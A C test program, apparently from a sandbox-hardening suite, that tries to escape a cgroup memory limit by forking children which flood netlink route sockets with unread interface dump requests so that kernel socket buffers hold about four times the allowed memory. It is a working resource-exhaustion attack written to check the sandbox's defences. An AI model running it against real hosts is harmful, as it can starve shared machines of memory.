/* Asks the kernel again and again which network interfaces there are, and reads no answer, with buffers as large as they
 * can be, so that few sockets hold much.
 * goal: four times as much memory as the limit: what a busy host lets in while the launcher waits for a processor is less
 * stopped by: the launcher, which looks at the sandbox's sockets, and the ledger of pages
 * first: cgroup-limits
 * second: -
 * alone: no limit of the kernel's counts what waits in such sockets, but for each of them
 * ends: memory-limit, exit
 */
#include "attack.h"
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
int main(void) {
    size_t wanted = figure("ATTACK_MEMORY") * 4, got = 0;
    struct { struct nlmsghdr head; struct rtgenmsg body; } ask = {
        { .nlmsg_len = NLMSG_LENGTH(sizeof(struct rtgenmsg)), .nlmsg_type = RTM_GETLINK, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP },
        { AF_UNSPEC },
    };
    pid_t children[16];
    int count = 0;
    while (count < 16 && got < wanted) {
        int report[2];
        if (pipe(report)) break;
        pid_t pid = fork();
        if (pid < 0) break;
        if (pid == 0) {
            size_t mine = 0;
            for (int fd; (fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE)) >= 0 && got + mine < wanted;) {
                int space = INT_MAX;
                unsigned held[SK_MEMINFO_VARS] = { 0 }, before = 0;
                setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &space, sizeof space);
                /* Until it is full: what does not fit is thrown away, and no error. */
                do {
                    before = held[SK_MEMINFO_RMEM_ALLOC];
                    socklen_t size = sizeof held;
                    for (int i = 0; i < 100; i++) send(fd, &ask, ask.head.nlmsg_len, MSG_DONTWAIT);
                    if (getsockopt(fd, SOL_SOCKET, SO_MEMINFO, held, &size)) break;
                } while (held[SK_MEMINFO_RMEM_ALLOC] > before && got + mine + before < wanted);
                mine += held[SK_MEMINFO_RMEM_ALLOC];
            }
            (void)!write(report[1], &mine, sizeof mine);
            for (;;) pause();
        }
        children[count++] = pid;
        close(report[1]);
        size_t mine = 0;
        if (read(report[0], &mine, sizeof mine) != sizeof mine) break;
        got += mine;
    }
    if (got >= wanted) reached("%zu bytes", got);
    usleep(500000);
    while (count > 0) kill(children[--count], SIGKILL);
    return tried();
}
